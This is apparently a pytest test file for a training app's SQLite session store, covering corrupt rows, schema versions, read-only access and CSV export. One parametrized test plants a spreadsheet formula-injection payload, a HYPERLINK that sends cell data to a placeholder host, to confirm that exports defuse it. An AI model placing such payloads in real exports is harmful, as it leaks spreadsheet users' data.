"""The session store on real SQLite files: one bad row is named and skipped, a file that is
not a database is skipped by `cohort`, a newer schema is refused, reading never changes
the file, and an exported CSV cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import hashlib
import sqlite3
from pathlib import Path

import pytest
from test_instructor import play_into

from frontdoor.cli import main
from trainer.store import SCHEMA_VERSION, SessionStore, StoreError


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _add_session(db: Path, *, exercise: str = "ex", score: dict | None = None) -> int:
    store = SessionStore.open(db)
    try:
        sid = store.start_session(
            trainee="t-1", exercise=exercise, exercise_source="x.yaml",
            scenario_hash="h", seed=1, version="v",
        )  # fmt: skip
        store.finish_session(sid, score=score or {"hits": 1, "d_prime": 0.5}, details={})
    finally:
        store.close()
    return sid


def _corrupt_score(db: Path, session_id: int) -> None:
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("UPDATE sessions SET score = ? WHERE id = ?", ('{"hits": 1, "d_', session_id))
    conn.close()


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with two real bot shifts."""
    db = tmp_path_factory.mktemp("played") / "a.sqlite3"
    store = SessionStore.open(db)
    try:
        play_into(store, "t-anna", "thorough", "02_the_missing_file", 1)
        play_into(store, "t-ben", "careless", "02_the_missing_file", 1)
    finally:
        store.close()
    return db


def test_one_corrupt_score_is_named_and_the_rest_listed(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    db = tmp_path / "s.sqlite3"
    _add_session(db)
    bad = _add_session(db)
    _add_session(db)
    _corrupt_score(db, bad)
    assert main(["sessions", "--db", str(db), "--json"]) == 0
    captured = capsys.readouterr()
    assert f"session {bad}" in captured.err and str(db) in captured.err
    assert '"id": 1' in captured.out and '"id": 3' in captured.out


def test_cohort_skips_a_corrupt_row_and_a_file_that_is_not_sqlite(
    played: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    db = tmp_path / "copy.sqlite3"
    db.write_bytes(played.read_bytes())
    _corrupt_score(db, 1)
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"not a database at all " * 200)
    out = tmp_path / "cohort"
    assert main(["cohort", "--db", str(junk), str(db), "--out", str(out)]) == 0
    captured = capsys.readouterr()
    assert str(junk) in captured.err and "session 1" in captured.err
    assert "1 shifts" in captured.out
    assert (out / "cohort.html").exists()


def test_reading_never_changes_the_file(played: Path, tmp_path: Path) -> None:
    db = tmp_path / "rollback.sqlite3"
    conn = sqlite3.connect(played)
    conn.execute("VACUUM INTO ?", (str(db),))  # a copy in rollback-journal mode
    conn.close()
    before = _digest(db)
    assert main(["sessions", "--db", str(db), "--json"]) == 0
    assert main(["cohort", "--db", str(db), "--out", str(tmp_path / "c")]) == 0
    assert main(["next", "--trainee", "t-ben", "--db", str(db), "--json"]) == 0
    assert _digest(db) == before
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    conn.close()

    empty = tmp_path / "empty.sqlite3"
    empty.write_bytes(b"")
    assert main(["sessions", "--db", str(empty)]) == 2
    assert empty.read_bytes() == b""


def test_schema_version_is_recorded_migrated_and_newer_refused(tmp_path: Path) -> None:
    db = tmp_path / "s.sqlite3"
    _add_session(db)
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    conn.execute("PRAGMA user_version = 0")  # as files written before versions were kept
    conn.commit()
    conn.close()
    SessionStore.open(db).close()  # opening for writing brings it forward
    conn = sqlite3.connect(db)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.commit()
    conn.close()
    before = _digest(db)
    with pytest.raises(StoreError, match="newer Front Door"):
        SessionStore.open(db)
    assert main(["sessions", "--db", str(db)]) == 2
    assert _digest(db) == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_exported_cells_cannot_start_a_formula(
    start: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    db = tmp_path / "s.sqlite3"
    exercise = f'{start}HYPERLINK("http://example.invalid/?x="&A1,"open")+1'
    _add_session(db, exercise=exercise, score={"hits": 1, "d_prime": -0.5})
    out = tmp_path / "s.csv"
    assert main(["sessions", "--db", str(db), "--export", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["exercise"] == "'" + exercise
    assert rows[0]["d_prime"] == "-0.5"  # a number stays a number


def test_a_shift_is_saved_and_shown_beside_a_corrupt_row(
    tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SDL_VIDEODRIVER", "dummy")
    monkeypatch.setenv("SDL_AUDIODRIVER", "dummy")
    monkeypatch.setenv("FRONTDOOR_CONFIG_DIR", str(tmp_path / "config"))
    db = tmp_path / "s.sqlite3"
    bad = _add_session(db)
    _corrupt_score(db, bad)
    args = ["train", "--headless", "--bot", "careless", "--seed", "2",
            "--exercise", "02_the_missing_file", "--db", str(db)]  # fmt: skip
    assert main(args) == 0
    assert f"session {bad}" in capsys.readouterr().err
    store = SessionStore.open(db, read_only=True)
    try:
        assert [row.id for row in store.sessions()] == [bad + 1]
    finally:
        store.close()
